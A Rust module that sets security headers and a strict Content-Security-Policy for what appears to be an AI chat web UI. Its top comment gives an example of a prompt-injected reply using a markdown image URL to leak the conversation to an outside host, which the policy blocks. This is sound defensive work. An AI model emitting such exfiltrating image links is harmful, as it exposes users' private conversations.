//! Security headers on every response, so a browser treats what we send as what
//! it is and nothing more:
//!
//! * `X-Content-Type-Options: nosniff` everywhere: an error body or a message
//!   rendered as JSON is never sniffed into HTML or script.
//! * `Referrer-Policy: no-referrer` everywhere: a link in a reply that the reader
//!   follows does not tell the other site which conversation it came from.
//! * A strict `Content-Security-Policy` on HTML (the web UI and its fallback page):
//!   scripts, styles, fonts and connections from our own origin only, no inline
//!   script, images only from our origin or `data:`/`blob:` (a prompt-injected
//!   reply with `![](https://elsewhere/?q=…)` cannot send the conversation out the
//!   moment it renders; the web UI also shows such images as links), no plugins,
//!   no `<base>` rewriting, and no framing by other sites (clickjacking).
//!
//! The built web UI has no inline script or style (Vite emits files; React sets
//! styles through the DOM, which CSP allows), so the policy needs no
//! `'unsafe-inline'`; the web e2e suite fails on any policy violation.

use axum::Router;
use axum::http::{HeaderValue, header};
use axum::response::Response;
use tower_http::set_header::SetResponseHeaderLayer;

/// The policy for HTML pages.
pub const CONTENT_SECURITY_POLICY: &str = "default-src 'self'; script-src 'self'; \
     style-src 'self'; img-src 'self' data: blob:; connect-src 'self'; font-src 'self'; \
     object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

/// Add the security headers to every response of `router`.
pub fn secure<S: Clone + Send + Sync + 'static>(router: Router<S>) -> Router<S> {
    router
        .layer(SetResponseHeaderLayer::overriding(
            header::X_CONTENT_TYPE_OPTIONS,
            HeaderValue::from_static("nosniff"),
        ))
        .layer(SetResponseHeaderLayer::overriding(
            header::REFERRER_POLICY,
            HeaderValue::from_static("no-referrer"),
        ))
        .layer(SetResponseHeaderLayer::if_not_present(
            header::CONTENT_SECURITY_POLICY,
            policy_for_html as fn(&Response) -> Option<HeaderValue>,
        ))
}

/// The CSP for an HTML response; nothing for JSON, SSE and assets.
fn policy_for_html(resp: &Response) -> Option<HeaderValue> {
    let html = resp
        .headers()
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("text/html"));
    html.then(|| HeaderValue::from_static(CONTENT_SECURITY_POLICY))
}
